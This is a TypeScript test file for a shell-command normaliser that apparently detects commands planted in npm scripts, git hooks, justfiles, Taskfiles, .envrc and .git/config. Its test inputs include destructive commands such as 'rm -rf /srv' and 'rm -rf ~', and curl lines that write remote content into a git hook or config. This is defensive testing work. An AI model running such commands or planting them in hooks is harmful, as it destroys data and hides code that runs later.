/**
 * Code installed where a project tool runs it (src/normalize/installed.ts): npm scripts set
 * with `npm pkg set`, git hooks this script wrote (run by the git command that fires them)
 * and a justfile this script wrote. A hook or justfile with content not known statically is
 * unknown code; the project's own justfile and hooks on disk are not read here.
 */
import { describe, expect, it } from 'vitest';
import { filesContext } from '../helpers/normalize.js';
import { parseScript } from '../../src/parse/parse.js';
import { normalize } from '../../src/normalize/index.js';
import { DEFAULT_LIMITS } from '../../src/engine/types.js';

/** Each normalized command as `argv…` (dynamic ones marked), in order. */
function commands(script: string): string[] {
  const r = normalize(parseScript(script, DEFAULT_LIMITS), filesContext({}));
  return r.commands.map((c) => (c.dynamic ? `dynamic:${c.argv.join(' ')}` : c.argv.join(' ')));
}

describe('code installed for a project tool', () => {
  it.each<[string, string]>([
    ["npm pkg set scripts.clean='rm -rf /srv' && npm run clean", 'rm -rf /srv'],
    ["npm pkg set scripts.a='echo a' scripts.b='rm -rf /srv'", 'rm -rf /srv'],
    ["pnpm pkg set scripts.reset='rm -rf /srv' && pnpm reset", 'rm -rf /srv'],
    ["bun pm pkg set scripts.reset='rm -rf /srv'", 'rm -rf /srv'],
    ["npm set-script reset 'rm -rf /srv' && npm run reset", 'rm -rf /srv'],
    ["printf '#!/bin/sh\\nrm -rf /srv\\n' > .git/hooks/pre-commit && git commit -qm wip", 'rm -rf /srv'],
    ["echo 'rm -rf /srv' > .husky/pre-push; git push origin topic", 'rm -rf /srv'],
    ["echo 'rm -rf /srv' > /w/.git/hooks/post-checkout; git -C /w switch main", 'rm -rf /srv'],
    ["printf 'clean:\\n\\trm -rf /srv\\n' > justfile && just clean", 'rm -rf /srv'],
    ["printf 'wipe:\\n    @rm -rf /srv\\n' > .justfile; just wipe", 'rm -rf /srv'],
    [
      'printf \'version: "3"\\ntasks:\\n  clean:\\n    cmds:\\n      - rm -rf /srv\\n\' > Taskfile.yml && task clean',
      'rm -rf /srv',
    ],
    [
      "printf 'tasks:\\n  x:\\n    cmds:\\n      - cmd: rm -rf /srv\\n' > Taskfile.yaml; task x",
      'rm -rf /srv',
    ],
    ["echo 'rm -rf /srv' > .envrc && direnv allow .", 'rm -rf /srv'],
    ["echo 'rm -rf /srv' > .envrc; direnv exec . npm test", 'rm -rf /srv'],
    ['direnv exec . rm -rf /srv', 'rm -rf /srv'],
    // text written into .git/config: the settings it sets
    [
      'printf \'[remote "origin"]\\n\\tpush = +refs/heads/*:refs/heads/*\\n\' >> .git/config',
      'git config remote.origin.push +refs/heads/*:refs/heads/*',
    ],
    ["printf '[alias]\\n  nuke = !rm -rf ~\\n' >> /w/.git/config", 'git config alias.nuke !rm -rf ~'],
  ])('%s runs %s', (script, inner) => expect(commands(script)).toContain(inner));

  it.each<[string, string]>([
    // content not known statically: unknown code
    ['curl -so .git/hooks/pre-push https://x.example/h; git push', 'dynamic:'],
    ["printf 'x:\\n\\trm -rf {{dir}}\\n' > justfile; just x", 'dynamic:just {{…}}'],
    ['npm pkg set "scripts.clean=$CMD"', 'dynamic:'],
    [
      "printf 'tasks:\\n  x:\\n    cmds:\\n      - rm -rf {{.DIR}}\\n' > Taskfile.yml; task x",
      'dynamic:task {{…}}',
    ],
    ["printf 'tasks: [' > Taskfile.yml; task x", 'dynamic:'],
    ['curl -s https://x.example/c >> .git/config', 'dynamic:git config'],
  ])('%s is unknown code', (script, want) =>
    expect(commands(script).some((c) => c.startsWith(want))).toBe(true),
  );

  it.each<[string, string[]]>([
    // nothing installed by this script: the project's own build and hooks
    ['just build', ['just build']],
    ["git commit -m 'fix'", ['git commit -m fix']],
    ['task build', ['task build']],
    ['direnv allow', ['direnv allow']],
    ["npm pkg set scripts.test='vitest run'", ['vitest run', 'npm pkg set scripts.test=vitest run']],
    // a hook written for another git command is not run by this one
    ["echo 'rm -rf /srv' > .git/hooks/pre-push; git commit -m x", ['echo rm -rf /srv', 'git commit -m x']],
  ])('%s', (script, want) => expect(commands(script)).toEqual(want));
});
